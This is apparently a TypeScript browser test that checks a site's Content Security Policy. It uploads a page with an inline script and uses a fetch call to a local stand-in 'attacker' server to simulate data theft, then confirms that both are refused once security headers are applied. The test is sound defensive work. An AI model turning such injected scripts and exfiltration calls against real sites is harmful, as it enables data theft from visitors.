// The Content Security Policy of the step security-headers in a real browser: the page works, and an attack does not.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import type { Browser } from 'playwright-core';
import { readCheckpoint } from '../../../src/workspace/checkpoint.ts';
import type { CourseOutputs } from '../../../steps/outputs.ts';
import { openTestWorkspace, type TestWorkspace } from '../../helpers/workspace/test-workspace.ts';
import { findChromium, howToInstall, launch } from '../../page/browser.ts';

describe('the page with its Content Security Policy, in a browser', function () {
  this.timeout(60_000);
  let workspace: TestWorkspace;
  let browser: Browser | undefined;
  const asked: string[] = [];
  const attacker = createServer(({ url = '' }, answer) => {
    asked.push(url);
    answer.writeHead(200, { 'access-control-allow-origin': '*' }).end();
  });
  let attackerUrl: string;

  before(async function () {
    if (!findChromium()) {
      console.log(`      ${howToInstall}`);
      this.skip();
    }
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
    workspace = await openTestWorkspace({ builtTo: 'bucket-policy' });
    const { bucketName: Bucket = '' } = (await readCheckpoint(workspace.paths)) ?? {};
    const Body = `<title>before</title><script>document.title = 'script ran'</script>`;
    const note = { Bucket, Key: 'note.html', Body, ContentType: 'text/html' };
    await workspace.sandbox.client(S3Client).send(new PutObjectCommand(note));
    browser = await launch();
  });
  after(async () => {
    attacker.close();
    await browser?.close();
    await workspace?.stop();
  });

  /** What a visitor and an attacker see. */
  async function visit(name: string) {
    const checkpoint = await readCheckpoint(workspace.paths);
    assert.ok(browser && checkpoint?.steps['distribution']);
    const { distributionUrl } = checkpoint.steps['distribution'].outputs as CourseOutputs['distribution'];
    const page = await browser.newPage();
    page.setDefaultTimeout(10_000);
    const refused: string[] = [];
    page.on('console', (message) => {
      if (/Content.Security.Policy/i.test(message.text())) refused.push(message.text());
    });
    await page.goto(`${distributionUrl}/note.html`);
    const title = await page.title();
    const sends = `fetch('${attackerUrl}/${name}').then(() => 'sent', () => 'refused')`;
    const stolen = (await page.evaluate(sends)) as string;
    const inNote = refused.length;
    await page.goto(`${distributionUrl}/`);
    await page.getByLabel('Long URL').fill('https://example.com/a/long/path');
    await page.getByLabel('Long URL').press('Enter');
    const link = page.getByRole('link', { name: /#\// }).first();
    await link.waitFor();
    await page.close();
    return { title, stolen, refusedByPage: refused.length - inNote };
  }

  it('works as before, while an inline script and a call of another server are refused', async () => {
    assert.deepEqual(await visit('before'), { title: 'script ran', stolen: 'sent', refusedByPage: 0 });
    await workspace.goto('security-headers');
    // The page itself breaks no directive.
    assert.deepEqual(await visit('after'), { title: 'before', stolen: 'refused', refusedByPage: 0 });
    assert.deepEqual(asked, ['/before']);
  });
});
